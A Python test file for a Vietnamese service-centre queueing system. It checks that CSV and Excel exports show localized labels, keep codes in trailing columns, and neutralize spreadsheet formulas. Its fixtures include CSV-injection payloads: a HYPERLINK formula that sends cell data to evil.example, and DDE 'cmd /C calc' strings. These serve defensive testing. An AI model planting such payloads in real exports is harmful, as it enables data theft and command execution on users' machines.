"""Exports speak the supervisor's language, and nothing in them runs as a spreadsheet formula.

Statuses, outcomes, rating reasons and priority groups are labels in the export's language
(`?lang=vi|en`, Vietnamese by default), with the codes in their own last columns; a text cell
that Excel would take for a formula (=, +, -, @, tab, CR first) gets a leading quote in the
CSV (OWASP's rule), and the workbooks store text as text.
"""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from server.config import parse_config
from server.queueing.models import Ticket
from server.reports import stats, summary_xlsx, tickets_csv, tickets_xlsx
from server.reports.export import csv_safe
from server.reports.facts import ticket_facts
from tests.conftest import demo_config_data

from .day import DAY, OPENING

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+84 912 345 678", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _rated(db, engine, comment: str, *, score: int = 1, reason: str | None = "long_wait", priority: bool = False):
    """One DD ticket issued, called, served and rated at counter 1 on DAY; its number."""
    t = OPENING + timedelta(minutes=len(comment))
    out = db.write(lambda s: engine.issue(s, service="DD", actor="device:k1", now=t, priority=priority,
                                          category="elderly" if priority else None))
    db.write(lambda s: engine.call_next(s, 1, actor="user:lan", now=t + timedelta(seconds=30)))
    db.write(lambda s: engine.finish(s, 1, actor="user:lan", now=t + timedelta(seconds=90)))
    db.write(lambda s: engine.rate(s, s.get(Ticket, out.ticket.id), score=score, comment=comment, reason=reason,
                                   actor="device:rating", now=t + timedelta(seconds=100)))
    return out.ticket.number


def _csv(db, config, lang: str = "vi") -> dict[str, dict[str, str]]:
    facts = db.read(lambda s: list(ticket_facts(s, DAY, DAY)))
    text = tickets_csv(facts, config, lang=lang).decode("utf-8-sig")
    return {r[list(r)[1]]: r for r in csv.DictReader(io.StringIO(text, newline=""))}


def test_labels_not_codes_in_the_csv(db, config, engine):
    number = _rated(db, engine, "Chờ lâu quá", priority=True)
    waiting = db.write(lambda s: engine.issue(s, service="HT", actor="device:k1", now=OPENING)).ticket.number
    rows = _csv(db, config)
    row = rows[number]
    assert (row["Trạng thái"], row["Kết quả"], row["Lý do"]) == ("Đã xong", "Đã phục vụ", "Chờ quá lâu")
    assert row["Đối tượng ưu tiên"] == "Người cao tuổi" and row["Đánh giá"] == "1"
    # The codes stay, in their own columns at the end, for integrations.
    assert (row["Mã trạng thái"], row["Mã kết quả"], row["Mã lý do"], row["Mã đối tượng ưu tiên"]) == (
        "done", "done", "long_wait", "elderly")
    assert list(row)[-8:-4] == ["Mã trạng thái", "Mã kết quả", "Mã lý do", "Mã đối tượng ưu tiên"]
    assert list(row)[-4:] == ["Mã hồ sơ", "Kết quả hồ sơ", "Ghi chú hồ sơ", "Mã kết quả hồ sơ"]  # case files, last
    assert (rows[waiting]["Trạng thái"], rows[waiting]["Mã trạng thái"]) == ("Đang chờ", "waiting")


def test_english_export(db, config, engine):
    number = _rated(db, engine, "too long")
    row = _csv(db, config, "en")[number]
    assert (row["Status"], row["Outcome"], row["Reason"], row["Status code"]) == (
        "Done", "Served", "Waited too long", "done")
    assert row["Service name"] == "Land"
    facts = db.read(lambda s: list(ticket_facts(s, DAY, DAY)))
    wb = load_workbook(io.BytesIO(tickets_xlsx(facts, config, "en")))
    assert wb.sheetnames == ["Tickets"]
    head = [c.value for c in wb["Tickets"][1]]
    assert head[:2] == ["Day", "Number"] and head[-5] == "Priority group code" and head[-1] == "Case outcome code"
    report = db.read(lambda s: stats(s, config, DAY, DAY, today=DAY))
    wb = load_workbook(io.BytesIO(summary_xlsx(report, config.center.name.en, "en")))
    assert wb.sheetnames == ["Summary", "Services", "Counters", "Staff", "By hour", "By day"]
    services = {r[0]: r[1] for r in wb["Services"].iter_rows(min_row=4, values_only=True)}
    assert services["DD"] == "Land"


def test_the_workbook_rows_carry_labels_and_codes(db, config, engine):
    number = _rated(db, engine, "x")
    facts = db.read(lambda s: list(ticket_facts(s, DAY, DAY)))
    ws = load_workbook(io.BytesIO(tickets_xlsx(facts, config)))["Số thứ tự"]
    rows = list(ws.iter_rows(values_only=True))
    col = {name: i for i, name in enumerate(rows[0])}
    row = next(r for r in rows[1:] if r[col["Số thứ tự"]] == number)
    assert (row[col["Trạng thái"]], row[col["Lý do"]], row[col["Mã lý do"]]) == ("Đã xong", "Chờ quá lâu", "long_wait")


@pytest.mark.parametrize("comment", HOSTILE)
def test_a_formula_in_a_comment_is_neutralized_in_the_csv(db, config, engine, comment):
    number = _rated(db, engine, comment)
    row = _csv(db, config)[number]
    assert row["Góp ý"] == "'" + comment  # shown as typed, never run
    assert row["Chờ (giây)"] == "30" and row["Đánh giá"] == "1"  # numbers are left alone


def test_csv_safe_leaves_numbers_and_plain_text_alone():
    assert [csv_safe(v) for v in (-5, -2.5, 0, None, "", "1001", "A001", "Đất đai", "a=b")] == [
        -5, -2.5, 0, None, "", "1001", "A001", "Đất đai", "a=b"]
    assert [csv_safe(v) for v in ("=1", "+1", "-1", "@x", "\t1", "\r1")] == ["'=1", "'+1", "'-1", "'@x", "'\t1", "'\r1"]


def test_workbooks_store_a_formula_looking_text_as_text(db, engine, tmp_path):
    data = demo_config_data()
    evil = '=HYPERLINK("http://evil.example","Đất đai")'
    for svc in data["services"]:
        if svc["code"] == "DD":
            svc["name"]["vi"] = evil
    config = parse_config(data)
    number = _rated(db, engine, HOSTILE[0])
    facts = db.read(lambda s: list(ticket_facts(s, DAY, DAY)))
    ws = load_workbook(io.BytesIO(tickets_xlsx(facts, config)))["Số thứ tự"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[1].value == number)
    comment, name = row[header.index("Góp ý")], row[header.index("Tên lĩnh vực")]
    assert (comment.value, comment.data_type) == (HOSTILE[0], "s")
    assert (name.value, name.data_type) == (evil, "s")
    report = db.read(lambda s: stats(s, config, DAY, DAY, today=DAY))
    wb = load_workbook(io.BytesIO(summary_xlsx(report, evil)))
    title = wb["Lĩnh vực"]["A1"]
    assert title.data_type == "s" and title.value.startswith(evil)
    cell = next(r[1] for r in wb["Lĩnh vực"].iter_rows(min_row=4) if r[0].value == "DD")
    assert (cell.value, cell.data_type) == (evil, "s")  # openpyxl would have made it a formula ('f')
